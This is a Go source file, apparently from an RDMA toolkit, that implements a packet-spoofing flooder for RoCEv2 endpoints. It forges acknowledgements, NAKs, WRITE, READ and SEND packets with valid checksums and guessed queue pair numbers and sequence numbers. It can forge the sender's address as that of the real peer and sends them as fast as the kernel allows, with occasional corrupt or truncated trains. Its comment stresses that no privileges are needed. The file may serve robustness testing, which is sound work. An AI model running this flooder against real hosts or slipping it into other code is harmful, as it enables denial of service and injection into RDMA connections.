// Package spoof forges RoCEv2 packets for endpoints whose queue pair numbers, PSNs and keys
// it does not know, as fast as the kernel takes them. It needs no rights: on the host of a
// ring of soft devices any user may do it.
//
// It sends from a free port of an address, which may be that of the true peer. What it sends
// would be taken if it guessed right: ICRC and addresses are as they should be. The kinds take
// turns: NAKs of each code, ACKs, WRITEs, READs, SENDs, and every 16th train is wrong in its
// ICRC, cut short or noise.
package spoof

import (
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net/netip"
	"time"

	"ringcli/verbs/soft/udp"
	"ringcli/verbs/soft/wire"
)

// Aim is an endpoint, and whose address the packets for it come from.
type Aim struct {
	From netip.Addr
	To   netip.AddrPort
}

// Sent is what went out.
type Sent struct {
	Packets, Refused int // packets; trains that the kernel did not take
	Took             time.Duration
}

// train is how many packets go to the kernel in one send; the most that it takes.
const train = 64

// Flood sends to each endpoint in turn until ctx ends.
func Flood(ctx context.Context, aims []Aim) (s Sent, err error) {
	victims := make([]*victim, len(aims))
	for i, a := range aims {
		conn, err := udp.Listen(netip.AddrPortFrom(a.From, 0))
		if err != nil {
			return s, err
		}
		defer func() { _ = conn.Close() }()
		victims[i] = &victim{conn: conn, dst: udp.NewSockaddr(a.To), flow: wire.NewFlow(conn.LocalAddr(), a.To)}
	}
	rng := rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64()))
	start := time.Now()
	for n := 0; ctx.Err() == nil; n++ {
		for _, v := range victims {
			sent, err := v.conn.Send(v.forge(rng, n))
			if s.Packets += sent * train; err != nil || sent == 0 {
				s.Refused++
			}
		}
	}
	s.Took = time.Since(start)
	return s, nil
}

// victim is an endpoint, and the packets for it.
type victim struct {
	conn *udp.Conn
	dst  udp.Sockaddr
	flow wire.Flow
	buf  [train * 64]byte
	iov  [1]udp.Iovec
	msg  [1]udp.Message
}

// kinds are the packets that take turns.
var kinds = []struct {
	opcode   wire.Opcode
	syndrome wire.Syndrome
	payload  int
}{
	{wire.Acknowledge, wire.NakRemoteAccess, 0},
	{wire.Acknowledge, wire.NakInvalidRequest, 0},
	{wire.Acknowledge, wire.NakRemoteOp, 0},
	{wire.Acknowledge, wire.NakPSNSeq, 0},
	{wire.Acknowledge, wire.SyndromeAck, 0},
	{wire.WriteOnly, 0, 8},
	{wire.ReadRequest, 0, 0},
	{wire.SendOnly, 0, 8},
}

// forge makes the n-th train.
func (v *victim) forge(rng *rand.Rand, n int) []udp.Message {
	k := kinds[n%len(kinds)]
	head := k.opcode.HeaderLen()
	size := head + k.payload + wire.ICRCLen
	for i := range train {
		b := v.buf[i*size:][:size]
		r := rng.Uint64()
		f := wire.BTHFields{Opcode: k.opcode, PKey: wire.DefaultPKey, DestQPN: uint32(r) & wire.PSNMask, PSN: uint32(r>>24) & wire.PSNMask, AckReq: true}
		wire.BTH(b).Encode(&f)
		switch {
		case k.opcode == wire.Acknowledge:
			wire.AETH(b[wire.BTHLen:]).Encode(k.syndrome, uint32(r>>40))
		case head > wire.BTHLen:
			wire.RETH(b[wire.BTHLen:]).Encode(rng.Uint64(), uint32(r>>32), 8)
		}
		crc := v.flow.Start(uint16(i), size, b[:head])
		wire.PutICRC(b[size-wire.ICRCLen:], wire.Update(crc, b[head:size-wire.ICRCLen]))
	}
	switch n % 48 {
	case 15: // wrong ICRC
		v.buf[size-1] ^= 1
	case 31: // cut short
		size = wire.BTHLen - 2
	case 47: // noise
		for i := 0; i+8 <= train*size; i += 8 {
			binary.NativeEndian.PutUint64(v.buf[i:], rng.Uint64())
		}
	}
	v.iov[0] = udp.IovecOf(v.buf[:train*size])
	v.msg[0] = udp.Message{Dst: &v.dst, Iov: v.iov[:], SegmentSize: size}
	return v.msg[:]
}
